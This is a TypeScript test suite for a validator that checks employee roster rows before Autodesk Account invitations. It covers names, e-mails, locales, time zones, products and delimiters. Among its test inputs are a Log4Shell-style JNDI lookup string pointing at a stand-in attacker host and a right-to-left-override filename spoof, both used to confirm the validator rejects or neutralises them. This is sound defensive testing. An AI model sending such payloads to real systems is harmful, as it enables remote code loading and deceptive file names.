import { describe, expect, it } from 'vitest';
import { recogniseHeaders, type HeaderMap } from '../../src/roster/headers.ts';
import { validateRow } from '../../src/roster/validate-row.ts';

const HEADER = [
  'First Name',
  'Last Name',
  'Email',
  'Manager',
  'Language',
  'Time Zone',
  'Department',
  'Products',
  'Role',
  'Login',
];
const header = (cells = HEADER): HeaderMap => {
  const r = recogniseHeaders(cells);
  if (!r.ok) throw new Error(r.reason);
  return r.map;
};
const row = (fields: string[], map = header(), delimiter: ',' | ';' | '\t' = ',') =>
  validateRow({ line: 7, endLine: 7, fields }, map, delimiter);
const full = (over: Partial<Record<number, string>> = {}) => {
  const f = [
    'Ann',
    'Lee',
    'Ann.Lee@Example.org',
    'boss@example.org',
    'fr-BE',
    'Europe/Brussels',
    'Design',
    'AutoCAD;Revit',
    'manager',
    'ALEE',
  ];
  for (const [i, v] of Object.entries(over)) f[Number(i)] = v as string;
  return f;
};
const reason = (r: ReturnType<typeof row>) => (r.ok ? 'accepted' : r.reason);

describe('validateRow', () => {
  it('turns a good row into a roster row keyed by the normalised e-mail', () => {
    expect(row(full())).toEqual({
      ok: true,
      warnings: [],
      row: {
        line: 7,
        id: 'ann.lee@example.org',
        email: 'Ann.Lee@Example.org',
        firstName: 'Ann',
        lastName: 'Lee',
        manager: 'boss@example.org',
        locale: 'fr',
        timeZone: 'Europe/Brussels',
        department: 'Design',
        products: ['AutoCAD', 'Revit'],
        roles: ['manager'],
        logins: ['ALEE'],
      },
    });
  });

  it('trims cells and leaves optional ones out when empty', () => {
    const r = row([' Ann ', ' Lee ', ' ann@example.org ', '', '', '', '', '', '', '']);
    expect(r).toEqual({
      ok: true,
      warnings: [],
      row: {
        line: 7,
        id: 'ann@example.org',
        email: 'ann@example.org',
        firstName: 'Ann',
        lastName: 'Lee',
        roles: [],
        products: [],
        logins: [],
      },
    });
  });

  it('rejects bad e-mails and bad manager e-mails', () => {
    expect(reason(row(full({ 2: 'ann.lee@@example.org' })))).toBe(
      '"ann.lee@@example.org" is not a valid e-mail address',
    );
    expect(reason(row(full({ 2: '' })))).toBe('e-mail is empty');
    expect(reason(row(full({ 3: 'Jane Boss' })))).toBe('manager "Jane Boss" is not an e-mail address');
  });

  it('drops a manager who is the person themself', () => {
    const r = row(full({ 3: 'ANN.LEE@example.org' }));
    expect(r.ok && r.row.manager).toBe(undefined);
  });

  it("applies Autodesk's name rules to first and last names", () => {
    expect(reason(row(full({ 0: 'IT Admin' })))).toBe('first name contains "admin", which Autodesk Account rejects');
    expect(reason(row(full({ 1: 'Ｌｅｅ２０２６'.replace('Ｌｅｅ', 'Lee') })))).toBe(
      'last name contains full-width (double-byte) digits, which Autodesk Account rejects',
    );
    expect(reason(row(full({ 1: 'Lee (Support)' })))).toBe(
      'last name contains "support", which Autodesk Account rejects',
    );
    expect(reason(row(full({ 1: '50%' })))).toBe('last name contains "%", which Autodesk Account rejects');
    expect(reason(row(full({ 1: 'x'.repeat(101) })))).toBe('last name is longer than 100 characters');
    expect(reason(row(full({ 0: '' })))).toBe('first name is empty');
  });

  it('keeps names where a refused word is only part of a longer word, with a warning', () => {
    for (const [first, word] of [
      ['Administrator', 'admin'],
      ['Badminton', 'admin'],
      ['Kadmina', 'admin'],
      ['Sysadmin', 'admin'],
      ['Supporter', 'support'],
    ] as const) {
      const r = row(full({ 0: first }));
      expect(r.ok, first).toBe(true);
      if (r.ok)
        expect(r.warnings).toEqual([
          `first name "${first}" contains "${word}" inside a word: Autodesk Account refuses the word on its own, this is probably accepted (check the invitation)`,
        ]);
    }
    const plain = row(full({}));
    expect(plain.ok && plain.warnings).toEqual([]);
  });

  it('reports every problem of a row at once', () => {
    expect(reason(row(full({ 0: 'Admin', 2: 'nope', 4: 'Klingon', 5: 'Mars/Olympus' })))).toBe(
      '"nope" is not a valid e-mail address; first name contains "admin", which Autodesk Account rejects; ' +
        'unknown language "Klingon": use en, fr, nl or de (or English, Français, Nederlands, Deutsch); ' +
        'unknown time zone "Mars/Olympus": use an IANA name such as Europe/Brussels',
    );
  });

  it('rejects control and invisible characters in any column it reads', () => {
    expect(reason(row(full({ 0: 'Ann\u0000' })))).toBe('first name contains control or invisible characters');
    expect(reason(row(full({ 1: 'Lee\u202egnp.exe' })))).toBe('last name contains control or invisible characters');
    expect(reason(row(full({ 6: 'De\tsign' })))).toBe('department contains control or invisible characters');
    expect(reason(row(full({ 7: 'AutoCAD\u200b' })))).toBe('products contains control or invisible characters');
  });

  it('keeps template expressions as plain text', () => {
    const r = row(full({ 0: '${user.name}', 1: '{{lastName}}', 6: '#{7*7}' }));
    expect(r.ok && [r.row.firstName, r.row.lastName, r.row.department]).toEqual([
      '${user.name}',
      '{{lastName}}',
      '#{7*7}',
    ]);
    expect(reason(row(full({ 0: '${jndi:ldap://evil.example/a}' })))).toBe(
      'first name contains ":", which Autodesk Account rejects',
    );
  });

  it('accepts line breaks inside the products cell as separators', () => {
    const r = row(full({ 7: 'AutoCAD\r\nCivil 3D\nRevit' }));
    expect(r.ok && r.row.products).toEqual(['AutoCAD', 'Civil 3D', 'Revit']);
  });

  it('rejects a row whose width differs from the header, tolerating trailing empty cells', () => {
    expect(reason(row(full().slice(0, 9)))).toBe('9 fields where the header has 10');
    expect(reason(row([...full(), 'extra']))).toBe('11 fields where the header has 10');
    expect(reason(row([...full(), '', ' ']))).toBe('accepted');
  });

  it('suggests the delimiter a short row seems to use', () => {
    const map = header(['First Name', 'Last Name', 'Email']);
    expect(reason(row(['Ann,Lee,ann@x.org'], map, ';'))).toBe(
      '1 field where the header has 3: does this row use "," instead of ";"?',
    );
    expect(reason(row(['Ann\tLee\tann@x.org'], map, ','))).toBe(
      '1 field where the header has 3: does this row use tabs instead of ","?',
    );
    expect(reason(row(['Ann', 'Lee'], map, ','))).toBe('2 fields where the header has 3');
  });

  it('reads an Autodesk export row: product from product_name, hashed names left unknown', () => {
    const map = header(['email', 'first_name', 'last_name', 'offering_name', 'product_name', 'role']);
    const hash = '3bc51062973c458d5a6f2d8d64a023246354ad7e064b1e4e009ec8a0699a3043';
    const r = row(
      ['ann@example.com', hash, hash, 'AutoCAD - including specialized toolsets', 'AutoCAD', 'Primary Admin'],
      map,
    );
    expect(r).toEqual({
      ok: true,
      warnings: [],
      row: {
        line: 7,
        id: 'ann@example.com',
        email: 'ann@example.com',
        roles: ['admin'],
        products: ['AutoCAD'],
        logins: [],
      },
    });
    const offeringOnly = row(['ann@example.com', 'Ann', 'Lee', 'Revit', '', 'User'], map);
    expect(offeringOnly.ok && offeringOnly.row.products).toEqual(['Revit']);
  });
});
